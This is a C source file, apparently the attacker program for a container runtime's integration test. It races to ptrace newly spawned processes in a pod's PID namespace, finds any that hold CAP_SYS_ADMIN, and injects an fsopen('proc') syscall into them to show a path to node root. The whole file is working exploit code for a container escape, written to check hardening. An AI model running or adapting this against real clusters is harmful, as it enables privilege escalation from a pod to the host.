/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The attacker of tests/integration/harden-ptrace-window.sh (issue 13): a
 * process in the pod, holding CAP_SYS_PTRACE (as a pod that asked for it
 * does), that tries to ptrace every process that appears in its PID
 * namespace, as early as it can: podenter's session process enters the
 * pod's PID namespace holding podenter's capabilities, and keeps them
 * until it executes the tiny reaper (the command's process likewise until
 * it drops them). Built static, so it also runs in a busybox pod.
 *
 *   ptrace-window-attack SECONDS
 *
 * It seizes each new PID (the next PIDs the namespace will hand out, tried
 * in a busy loop, and every new entry of /proc), stops what it seized, and
 * reads its effective capabilities while it holds it stopped. One line per
 * process it reached:
 *   seized PID CAPEFF privileged|plain COMM   (privileged: CAP_SYS_ADMIN)
 *   refused PID ERRNO                         (the kernel said no)
 * and for a privileged one (x86_64) what a takeover is for, done:
 *   inject PID fsopen ok|EPERM|...            (a fresh, unmasked procfs made
 *                                              by the victim: node root)
 * then "summary seized N privileged N refused N" at the end. Each victim
 * is given back as it was (its system call re-run, then detached).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_PID (1 << 22)
#define CAP_SYS_ADMIN_BIT 21
#define SYSCALL_STOP (SIGTRAP | 0x80)

static unsigned char known[MAX_PID / 8];
static volatile sig_atomic_t stop;
static int max_pid, n_seized, n_privileged, n_refused;

static bool is_known(int pid)
{
	return known[pid / 8] & (1u << (pid % 8));
}

static void mark(int pid)
{
	known[pid / 8] |= (unsigned char)(1u << (pid % 8));
	if (pid > max_pid)
		max_pid = pid;
}

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static const char *err_name(int e)
{
	switch (e) {
	case 0:
		return "ok";
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case ESRCH:
		return "ESRCH";
	case EBUSY:
		return "EBUSY";
	case EINVAL:
		return "EINVAL";
	default:
		return "EOTHER";
	}
}

/* A stop of pid within a bound: its wait status, or -1 (gone, or never). */
static int wait_stop(int pid)
{
	long long until = now_ms() + 2000;
	int st;

	while (now_ms() < until) {
		pid_t r = waitpid(pid, &st, __WALL | WNOHANG);

		if (r == pid)
			return WIFSTOPPED(st) ? st : -1;
		if (r < 0)
			return -1;
		usleep(200);
	}
	return -1;
}

static void read_status(int pid, char *capeff, size_t ncap, char *comm,
			size_t ncomm)
{
	char path[64], line[256];
	FILE *f;

	snprintf(capeff, ncap, "?");
	snprintf(comm, ncomm, "?");
	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	f = fopen(path, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		if (!strncmp(line, "Name:\t", 6))
			snprintf(comm, ncomm, "%s", line + 6);
		else if (!strncmp(line, "CapEff:\t", 8))
			snprintf(capeff, ncap, "%s", line + 8);
	}
	fclose(f);
}

#ifdef __x86_64__
/*
 * Make the stopped victim call fsopen("proc"): at its next system call's
 * entry, that call is replaced (orig_rax), its result read at the exit,
 * then its registers are put back so that the original call runs again.
 */
static void inject_fsopen(int pid)
{
	struct user_regs_struct saved, r;
	unsigned long word = 0;
	int st = -1;

	for (int i = 0; i < 8; i++) {
		if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0)
			break;
		st = wait_stop(pid);
		if (st < 0 || WSTOPSIG(st) == SYSCALL_STOP)
			break;
	}
	if (st < 0 || WSTOPSIG(st) != SYSCALL_STOP ||
	    ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
		printf("inject %d no-syscall-stop\n", pid);
		return;
	}
	/* "proc" below the victim's stack pointer, past the red zone */
	memcpy(&word, "proc\0\0\0", 8);
	r = saved;
	r.orig_rax = 430; /* fsopen */
	r.rdi = saved.rsp - 512;
	r.rsi = 0;
	if (ptrace(PTRACE_POKEDATA, pid, r.rdi, word) < 0 ||
	    ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 ||
	    ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || wait_stop(pid) < 0 ||
	    ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) {
		printf("inject %d ptrace-failed\n", pid);
		return;
	}
	printf("inject %d fsopen %s\n", pid,
	       (long)r.rax >= 0 ? "ok" : err_name((int)-(long)r.rax));
	/* the victim's own call, once more */
	saved.rip -= 2;
	saved.rax = saved.orig_rax;
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
}
#else
static void inject_fsopen(int pid)
{
	printf("inject %d skipped\n", pid);
}
#endif

static void attack(int pid)
{
	char capeff[32], comm[64];
	unsigned long long caps;
	bool privileged;

	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0) {
		if (errno == ESRCH)
			return; /* not (yet) there */
		mark(pid);
		n_refused++;
		printf("refused %d %s\n", pid, err_name(errno));
		return;
	}
	mark(pid);
	n_seized++;
	/* held still: what it holds now is what the attacker commands */
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || wait_stop(pid) < 0) {
		printf("seized %d ? gone ?\n", pid);
		return;
	}
	read_status(pid, capeff, sizeof(capeff), comm, sizeof(comm));
	caps = strtoull(capeff, NULL, 16);
	privileged = caps & (1ULL << CAP_SYS_ADMIN_BIT);
	printf("seized %d %s %s %s\n", pid, capeff,
	       privileged ? "privileged" : "plain", comm);
	if (privileged) {
		n_privileged++;
		inject_fsopen(pid);
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void scan_proc(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	while ((e = readdir(d))) {
		long pid = strtol(e->d_name, NULL, 10);

		if (pid > 0 && pid < MAX_PID && !is_known((int)pid))
			attack((int)pid);
	}
	closedir(d);
}

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	long long until = now_ms() + 1000LL * (argc > 1 ? atoi(argv[1]) : 10);
	DIR *d = opendir("/proc");
	struct dirent *e;

	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGTERM, on_term);
	signal(SIGINT, on_term);
	/* what runs already is the pod's own */
	while (d && (e = readdir(d))) {
		long pid = strtol(e->d_name, NULL, 10);

		if (pid > 0 && pid < MAX_PID)
			mark((int)pid);
	}
	if (d)
		closedir(d);
	mark(getpid());
	printf("ready %d\n", max_pid);
	for (unsigned long n = 0; !stop && now_ms() < until; n++) {
		/* the PIDs the namespace hands out next, as soon as they
		 * exist; now and then /proc, for whatever came otherwise */
		for (int pid = max_pid + 1; pid <= max_pid + 8 && pid < MAX_PID;
		     pid++)
			if (!is_known(pid))
				attack(pid);
		if (n % 256 == 0)
			scan_proc();
	}
	printf("summary seized %d privileged %d refused %d\n", n_seized,
	       n_privileged, n_refused);
	return 0;
}
